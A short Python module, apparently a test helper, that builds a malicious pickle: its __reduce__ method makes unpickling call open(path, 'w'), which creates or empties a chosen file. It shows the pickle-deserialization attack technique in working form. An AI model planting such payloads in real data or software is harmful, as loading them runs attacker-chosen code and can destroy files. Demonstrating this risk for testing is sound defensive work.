"""A pickle as an attacker makes it: loading it is enough."""

import pickle
from pathlib import Path


class _Planted:
    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self):
        return (open, (str(self._path), "w"))


def planted(path: Path) -> bytes:
    """Return a pickle that makes the file `path` when it is loaded."""
    return pickle.dumps(_Planted(path))
